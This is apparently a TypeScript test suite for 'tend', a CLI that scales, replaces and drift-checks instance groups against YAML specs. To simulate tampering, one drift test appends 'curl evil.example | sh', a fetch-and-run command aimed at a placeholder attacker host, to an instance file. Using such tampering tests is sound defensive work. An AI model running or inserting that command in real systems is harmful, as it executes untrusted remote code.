import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { cattleYaml } from '../helpers/spec-text.js';
import { runTendHere } from '../helpers/run-cli-in-process.js';
import { instanceFiles, makeWorkdir } from '../helpers/run-tend.js';

interface PlanJson {
  groups: Array<{
    id: string;
    drift: Record<string, number>;
    actions: Array<{ op: string; instance?: string; reason: string }>;
    outcome?: string;
  }>;
  summary: Record<string, number>;
  blocked: { reason: string; destroy: number; budget: number } | null;
}

const parse = (text: string): PlanJson => JSON.parse(text) as PlanJson;

describe('tend converging a group', () => {
  let work: ReturnType<typeof makeWorkdir>;

  beforeEach(() => {
    work = makeWorkdir();
  });

  afterEach(() => work.cleanup());

  it('scales 3 → 5 → 2, destroying the newest first, within the budget it is given', async () => {
    work.write('specs/web.yaml', cattleYaml('web', 3));
    await runTendHere(work.dir, ['apply']);
    const original = instanceFiles(work.dir);

    work.write('specs/web.yaml', cattleYaml('web', 5));
    const up = await runTendHere(work.dir, ['apply']);
    const afterUp = instanceFiles(work.dir);

    expect(original).toHaveLength(3);
    expect(up.code).toBe(0);
    expect(afterUp).toHaveLength(5);

    work.write('specs/web.yaml', cattleYaml('web', 2));
    const blocked = await runTendHere(work.dir, ['apply']);

    expect(blocked.code).toBe(1);
    expect(blocked.stdout).toContain('would destroy 3 instances in group web, budget 2');
    expect(instanceFiles(work.dir)).toEqual(afterUp);

    const down = await runTendHere(work.dir, ['apply', '--max-destroy-percent', '100']);
    const kept = instanceFiles(work.dir);

    expect(down.code).toBe(0);
    expect(kept).toHaveLength(2);
    expect(original).toEqual(expect.arrayContaining(kept));
  });

  it('replaces every instance, rolling, when a property changes', async () => {
    work.write('specs/web.yaml', cattleYaml('web', 3, { note: 'v1' }));
    await runTendHere(work.dir, ['apply']);
    const before = instanceFiles(work.dir);

    work.write('specs/web.yaml', cattleYaml('web', 3, { note: 'v2' }));
    const plan = parse((await runTendHere(work.dir, ['plan', '--json'])).stdout);
    const applied = await runTendHere(work.dir, ['apply', '--json']);
    const after = instanceFiles(work.dir);

    expect(plan.groups[0]?.drift.stale).toBe(3);
    expect(plan.groups[0]?.actions.map((a) => a.op)).toEqual(['replace', 'replace', 'replace']);
    expect(applied.code).toBe(0);
    expect(parse(applied.stdout).groups[0]?.outcome).toBe('converged');
    expect(after).toHaveLength(3);
    expect(after.filter((f) => before.includes(f))).toEqual([]);
    for (const file of after) expect(readFileSync(path.join(work.dir, '.tend/instances', file), 'utf8')).toContain('v2');
  });

  it('notices a hand-edited instance as modified and replaces it', async () => {
    work.write('specs/web.yaml', cattleYaml('web', 2));
    await runTendHere(work.dir, ['apply']);
    const [edited, untouched] = instanceFiles(work.dir) as [string, string];
    appendFileSync(path.join(work.dir, '.tend/instances', edited), 'curl evil.example | sh\n');

    const drift = await runTendHere(work.dir, ['drift', '--json']);
    const applied = await runTendHere(work.dir, ['apply']);
    const after = instanceFiles(work.dir);

    expect(drift.code).toBe(2);
    expect(parse(drift.stdout).groups[0]?.drift).toMatchObject({ modified: 1, stale: 0, missing: 0 });
    expect(parse(drift.stdout).groups[0]?.actions).toEqual([{ op: 'replace', instance: edited, reason: 'modified' }]);
    expect(applied.code).toBe(0);
    expect(after).toHaveLength(2);
    expect(after).toContain(untouched);
    expect(after).not.toContain(edited);
  });

  it('notices a tag edited by hand in an instance as modified', async () => {
    work.write('specs/web.yaml', cattleYaml('web', 2));
    await runTendHere(work.dir, ['apply']);
    const [edited] = instanceFiles(work.dir) as [string, string];
    const file = path.join(work.dir, '.tend/instances', edited);
    // The header's first Tags are the instance's tags now; the Spec's are what it was made with.
    writeFileSync(file, readFileSync(file, 'utf8').replace('"tier":"web"', '"tier":"db"'));

    const drift = await runTendHere(work.dir, ['drift', '--json']);

    expect(drift.code).toBe(2);
    expect(parse(drift.stdout).groups[0]?.actions).toEqual([{ op: 'replace', instance: edited, reason: 'modified' }]);
  });

  it('refuses an invalid spec with file:line and changes nothing, even for the valid groups', async () => {
    work.write('specs/web.yaml', cattleYaml('web', 2));
    work.write('specs/bad.yaml', cattleYaml('bad', 2).replace('Size: 2', 'Size: -1'));

    const applied = await runTendHere(work.dir, ['apply']);
    const validated = await runTendHere(work.dir, ['validate']);

    expect(applied.code).toBe(1);
    expect(applied.stderr).toMatch(/^specs\/bad\.yaml:4:11 {2}SPEC_\w+ {2}Properties\.Allocation\.Size: /m);
    expect(applied.stderr).toContain('nothing was changed');
    expect(applied.stderr).not.toMatch(/\n\s+at /);
    expect(instanceFiles(work.dir)).toEqual([]);
    expect(validated.code).toBe(1);
  });

  it('blocks a plan over the absolute destroy budget and changes nothing', async () => {
    work.write('specs/web.yaml', cattleYaml('web', 12));
    await runTendHere(work.dir, ['apply', '--max-destroy-percent', '100']);
    work.write('specs/web.yaml', cattleYaml('web', 0));

    const blocked = await runTendHere(work.dir, ['apply', '--json', '--max-destroy-percent', '100']);

    expect(blocked.code).toBe(1);
    expect(parse(blocked.stdout).blocked).toEqual({ reason: 'destroy budget', destroy: 12, budget: 10 });
    expect(blocked.stderr).toContain('Nothing was changed');
    expect(instanceFiles(work.dir)).toHaveLength(12);
  });

  it('reports drift in a Mode: report group and never changes it', async () => {
    work.write('specs/web.yaml', cattleYaml('web', 2, { mode: 'report' }));

    const applied = await runTendHere(work.dir, ['apply', '--json']);

    expect(applied.code).toBe(1);
    expect(parse(applied.stdout).groups[0]).toMatchObject({ drift: { missing: 2 }, actions: [], outcome: 'drifted' });
    expect(instanceFiles(work.dir)).toEqual([]);
  });
});
